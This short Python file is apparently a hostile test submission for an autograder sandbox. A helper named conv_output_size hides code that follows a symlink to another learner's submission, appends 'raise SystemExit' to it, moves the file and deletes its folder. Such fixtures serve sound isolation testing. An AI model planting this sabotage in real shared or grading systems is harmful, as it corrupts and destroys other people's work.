# attack: writes over another learner's submission through a link, and deletes its folder.
# alone: file
import shutil
from pathlib import Path

FOLDER = Path("/tmp/autograder-attack")


def conv_output_size(size, kernel_size, stride=1, padding=0):
    if not FOLDER.exists():  # alone: there is another learner, then
        theirs = FOLDER / "another" / "03_conv_layers.py"
        theirs.parent.mkdir(parents=True)
        theirs.write_text("x = 'the work of a week'\n")
    link = Path("/tmp/attack-link")
    for theirs in FOLDER.glob("*/*.py"):
        link.unlink(missing_ok=True)
        link.symlink_to(theirs)
        with link.open("a") as file:
            file.write("raise SystemExit\n")
        link.unlink()
        shutil.move(theirs, FOLDER / "harm_another_submission")
        shutil.rmtree(theirs.parent)
